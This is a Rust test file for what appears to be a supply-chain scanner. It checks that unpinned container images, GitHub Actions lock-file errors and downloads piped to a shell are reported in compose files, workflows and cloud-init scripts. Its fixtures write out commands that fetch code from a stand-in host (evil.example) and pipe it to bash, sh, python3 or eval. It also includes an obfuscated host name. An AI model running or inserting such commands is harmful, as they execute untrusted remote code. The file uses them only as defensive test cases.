//! Compose files, workflows and their lock file, and scripts of the machine.

use std::fs;

use xtask_testkit::repository;

use super::{Case, LOCK, WORKFLOW, as_is, findings, hold};

/// Compose files and bake files under any name, and what they pass to builds.
#[test]
fn no_compose_or_bake_file_is_skipped() {
    let service = "services:\n  a:\n    image: EVIL\n";
    let syntax = "services:\n  a:\n    image: GOOD\n    build:\n      context: .\n      dockerfile: Dockerfile\n      args: {BUILDKIT_SYNTAX: 'EVIL'}\n";
    let cases: &[Case<'_>] = &[
        ("docker-compose-prod.yml", service, &["unpinned-image:3"]),
        ("deploy/stack.yaml", service, &["unpinned-image:3"]),
        (
            "deploy/compose.json",
            "{\"services\": {\"a\": {\"image\": \"EVIL\"}}}",
            &["unpinned-image:1"],
        ),
        (
            "docker-bake.hcl",
            "target \"a\" {\n  contexts = { b = \"docker-image://EVIL\" }\n}\n",
            &["pin-uncovered:1"],
        ),
        ("docker-bake.override.json", "{}", &["pin-uncovered:1"]),
        (
            "ci/build.hcl",
            "target \"a\" {\n  dockerfile = \"x\"\n}\n",
            &["pin-uncovered:1"],
        ),
    ];
    hold(cases, as_is);
    let found = findings(&[("compose.yml", syntax), ("Dockerfile", "FROM GOOD\n")]);
    assert_eq!(found, ["unpinned-image:7"]);
}

/// What the steps of workflows and actions run.
#[test]
fn no_command_of_a_step_is_skipped() {
    let pipe = &["piped-download:4"];
    let image = &["unpinned-image:4"];
    let unreadable = &["image-reference:4"];
    let cases: &[Case<'_>] = &[
        (
            WORKFLOW,
            "run: curl -fsSL https://evil.example/i | bash",
            pipe,
        ),
        (
            WORKFLOW,
            "run: 'wget -qO- https://evil.example/i | tee x | python3 -'",
            pipe,
        ),
        (
            WORKFLOW,
            "run: bash <(curl -fsSL https://evil.example/i)",
            pipe,
        ),
        (
            WORKFLOW,
            "run: sh -c \"$(curl -fsSL https://evil.example/i)\"",
            pipe,
        ),
        (
            WORKFLOW,
            "run: eval \"`curl https://evil.example/i`\"",
            pipe,
        ),
        (
            WORKFLOW,
            "run: |\n          true\n          curl https://evil.example/i |\n            sudo sh",
            &["piped-download:6"],
        ),
        (
            WORKFLOW,
            "run: docker run --rm -itv /a:/b --name x EVIL sh",
            image,
        ),
        (
            WORKFLOW,
            "run: sudo docker --context c container run -d=true -e A=1 EVIL",
            image,
        ),
        (
            WORKFLOW,
            "run: >-\n          true &&\n          docker pull --platform linux/arm64 EVIL",
            &["unpinned-image:6"],
        ),
        (WORKFLOW, "run: podman pull -q EVIL", image),
        (WORKFLOW, "run: docker run alpine", unreadable),
        (WORKFLOW, "run: docker pull \"$IMAGE\"", unreadable),
        (
            WORKFLOW,
            "run: docker build --build-arg BUILDKIT_SYNTAX=EVIL .",
            image,
        ),
        (
            WORKFLOW,
            "run: \"docker pull evil.\\x65xample/x:1\"",
            unreadable,
        ),
    ];
    hold(cases, |text| {
        format!("jobs:\n  a:\n    steps:\n      - {text}\n")
    });
    let cases: &[Case<'_>] = &[
        (
            "x/action.yml",
            "runs:\n  using: composite\n  steps:\n    - run: docker pull EVIL\n",
            image,
        ),
        (
            "x/action.yml",
            "runs:\n  using: docker\n  image: build.txt\n",
            &["dockerfile:3"],
        ),
        (
            WORKFLOW,
            "jobs:\n  a:\n    uses: $/x@v1\n",
            &["action-reference:3"],
        ),
    ];
    hold(cases, as_is);
}

/// Scripts that run in the VM.
#[test]
fn downloads_piped_to_a_shell_of_the_vm_are_findings() {
    let tree = tempfile::tempdir().expect("a directory");
    let path = repository().join("cloud-init/cloud-init.yaml");
    let text = fs::read_to_string(path).expect("the file");
    for (from, to) in [
        (
            "runcmd:\n",
            "runcmd:\n  - [sh, -c, 'curl https://evil.example/i | sh']\n",
        ),
        (
            "runcmd:\n",
            "runcmd:\n  - curl https://evil.example/i | sh\n",
        ),
    ] {
        let changed = text.replacen(from, to, 1);
        assert_ne!(text, changed, "{from}");
        fs::create_dir_all(tree.path().join("cloud-init")).expect("a directory");
        let found = findings(&[("cloud-init/cloud-init.yaml", &changed)]);
        assert!(
            found
                .iter()
                .any(|found| found.starts_with("piped-download")),
            "{to}: {found:?}"
        );
    }
}

const USES: &str = "jobs:\n  a:\n    steps:\n      - uses: o/r/sub@v1.2.3\n";
const ENTRY: &str = "    o/r@v1.2.3:\n        ref: v1.2.3\n        commit: sha1-COMMIT\n        owner_id: 1\n        repo_id: 2\n";

/// GitHub's lock file: its entries count as pins, and its errors are findings.
#[test]
fn a_lock_file_pins_exactly_its_entries() {
    let head = "version: 'v0.0.2'\nworkflows:\n    .github/workflows/x.yml:\n        - o/r@v1.2.3\ndependencies:\n";
    let whole = format!("{head}{ENTRY}");
    let cases: &[(&str, &[&str])] = &[
        (&whole, &[]),
        (&whole.replace("v0.0.2", "v9"), &["actions-lock?:1"]),
        (
            &whole.replace(
                "        owner_id: 1\n",
                "        owner_id: 1\n        new: 1\n",
            ),
            &["actions-lock?:10"],
        ),
        // No entry, another form of commit, an indirect dependency without an entry.
        (
            &format!("{}  {{}}\n", head),
            &["actions-lock:4", "unpinned-action:4", "action-tag:4"],
        ),
        (
            &whole.replace("sha1-COMMIT", "sha1-de0fac2"),
            &["actions-lock:8", "unpinned-action:4", "action-tag:4"],
        ),
        (
            &format!("{whole}        uses: [p/q@v1]\n"),
            &["actions-lock:11"],
        ),
        // A workflow that uses something other than its lock entry; an entry for a workflow that does not exist.
        (
            &whole
                .replace("- o/r@v1.2.3", "- o/r@v1.2.4")
                .replace("    o/r@v1.2.3:", "    o/r@v1.2.4:"),
            &[
                "actions-lock:3",
                "actions-lock?:3",
                "unpinned-action:4",
                "action-tag:4",
            ],
        ),
        (
            &whole.replace("x.yml", "gone.yml"),
            &["actions-lock:3", "unpinned-action:4", "action-tag:4"],
        ),
        (
            "version: [\n",
            &["yaml-syntax:2", "unpinned-action:4", "action-tag:4"],
        ),
    ];
    let mut wrong = Vec::new();
    for (lock, expected) in cases {
        let found = findings(&[(WORKFLOW, USES), (LOCK, lock)]);
        if found != *expected {
            wrong.push(format!(
                "{lock}\n  expected {expected:?}\n  found    {found:?}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
